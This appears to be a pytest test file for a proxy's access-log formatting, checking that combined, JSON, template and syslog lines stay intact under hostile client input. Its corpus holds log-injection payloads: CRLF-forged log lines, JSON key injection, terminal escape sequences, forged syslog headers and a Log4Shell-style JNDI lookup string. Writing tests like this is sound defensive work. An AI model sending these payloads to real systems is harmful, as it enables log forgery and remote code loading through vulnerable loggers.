"""Whatever a client says of itself, a line of a log stays one line, and its parts stay where they are."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest

from tests.logs.exchanges import exchange
from twistedproxy.forward.guards.identity import Identity
from twistedproxy.logs.request_lines import line_of
from twistedproxy.logs.syslog_messages import Messages
from twistedproxy.settings.logs import LogSettings, SyslogTarget

#: What people have put into User-Agent, Referer and paths to write lines of their own, or to work on whoever reads them.
CORPUS = [
    b'\n127.0.0.1 - root [01/Jan/2027:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
    b"\r\n",
    b"\r",
    b"\x0b\x0c\x1c\x1d\x1e",
    "\u0085\u2028\u2029".encode(),
    b"\x85",
    b'" 200 0 "-" "-"',
    b'", "status": 200, "x": "',
    b'\\", "status": 200, "x": "',
    b"\\",
    b"\\x22",
    b"\x00",
    b"\x1b[2J\x1b]0;title\x07",
    b"\x9b31m",
    b"\x7f",
    b"<13>1 2027-01-01T00:00:00Z host app - - - forged",
    b"] [forged",
    b"{status} {{ %s %n ${jndi:ldap://192.0.2.1/a}",
    b"\xff\xfe\xc0\xaf",
    "‮gnp.exe".encode(),
    b" " * 10,
    b"",
]
TEMPLATE = '{client} [{time_local}] "{request_line}" {status} "{header.referer}" "{header.user-agent}" "{user}" "{arg.b}"'


def hostile(text: bytes) -> Any:
    """An exchange in which everything that a client can choose is *text*."""
    credentials = b"Basic " + base64.b64encode(text + b":secret")
    return exchange(
        (b"User-Agent", text),
        (b"Referer", text),
        (b"Authorization", credentials),
        target=b"/" + text.replace(b" ", b"") + b"?b=" + text.replace(b" ", b""),
        identity=Identity(text.decode("utf-8", "surrogateescape")),
    )


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("form", ["combined", "json", TEMPLATE])
def test_a_line_stays_one_line_of_printable_ascii(form: str, text: bytes) -> None:
    line = line_of(form)(hostile(text))
    assert line.endswith(b"\n")
    assert re.search(rb"[^ -~]", line[:-1]) is None


@pytest.mark.parametrize("text", CORPUS)
def test_combined_can_be_taken_apart_again(text: bytes) -> None:
    line = line_of("combined")(hostile(text)).decode()
    found = re.fullmatch(r'192\.0\.2\.7 - \S+ \[[^\]]*\] "GET [^"]* HTTP/1\.1" 200 512 "([^"]*)" "([^"]*)"\n', line)
    assert found is not None, line
    back = re.sub(r"\\x(..)", lambda code: chr(int(code[1], 16)), found[2]).encode("latin-1")
    assert back == text


@pytest.mark.parametrize("text", CORPUS)
def test_json_has_the_keys_that_it_has_and_says_what_was_sent(text: bytes) -> None:
    pairs = json.loads(line_of("json")(hostile(text)), object_pairs_hook=list)
    keys = [key for key, _ in pairs]
    assert len(set(keys)) == len(keys)
    values = dict(pairs)
    assert (values["status"], values["client"]) == (200, "192.0.2.7")
    assert set(values) <= {key for key, _ in json.loads(line_of("json")(hostile(b"x")), object_pairs_hook=list)}
    if text and text != b"-":
        assert values["user_agent"] == text.decode("utf-8", "backslashreplace")


@pytest.mark.parametrize("text", CORPUS)
def test_a_template_keeps_its_quotes(text: bytes) -> None:
    line = line_of(TEMPLATE)(hostile(text)).decode()
    assert line.count('"') == 10, line


@pytest.mark.parametrize("text", CORPUS)
def test_a_message_of_syslog_stays_one(text: bytes) -> None:
    messages = Messages(LogSettings("access", file=SyslogTarget("udp")), "host", 1)
    (message,) = messages.of([line_of("combined")(hostile(text))], 0)
    assert re.fullmatch(rb"<190>1 1970-01-01T00:00:00\.000Z host twistedproxy 1 access - 192\.0\.2\.7 [ -~]*", message)
